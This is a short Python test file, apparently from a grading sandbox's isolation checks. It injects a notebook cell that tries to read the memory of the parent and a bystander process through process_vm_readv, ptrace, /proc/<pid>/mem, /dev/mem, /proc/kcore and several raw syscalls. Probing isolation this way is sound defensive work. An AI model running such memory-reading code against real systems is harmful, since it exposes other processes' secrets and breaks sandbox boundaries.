"""Reads the memory of the processes above it: by tracing, by copying and by /proc."""

from graders.doctor.cells import trying

PROMISE = 2
SECRET = "the environment"
EARNS = 74.0
MEMORY = """
import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)

def read(pid):
    stack = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value
    place = ctypes.create_string_buffer(4096)
    mine = struct.pack("<QQ", ctypes.addressof(place), 4096)
    theirs = struct.pack("<QQ", stack, 4096)
    if libc.syscall(310, pid, mine, 1, theirs, 1, 0) < 0:
        return os.strerror(ctypes.get_errno())
    return place.raw.replace(bytes(1), b" ")
"""


def work(desk, stage):
    desk.answer_all()
    desk.add_cell(
        MEMORY
        + trying(
            "read(os.getppid())",
            "read(pid)",
            "[libc.ptrace(16, p, None, None) or os.waitpid(p, 0) for p in (os.getppid(), pid)]",
            "libc.ptrace(0x4206, pid, None, None)",
            "libc.syscall(312, os.getpid(), pid, 0, 0, 0)",
            "open(f'/proc/{pid}/mem', 'rb').read(1)",
            "open(f'/proc/{pid}/maps').read()",
            "open(f'/proc/{os.getppid()}/mem', 'rb').read(1)",
            "open('/dev/mem', 'rb').read(1)",
            "open('/proc/kcore', 'rb').read(1)",
            "libc.syscall(323, 0)",
            "libc.syscall(298, bytes(128), pid, -1, -1, 0)",
            "libc.syscall(321, 0, bytes(128), 128)",
            pid=stage.bystander.pid,
        )
    )
    desk.save()
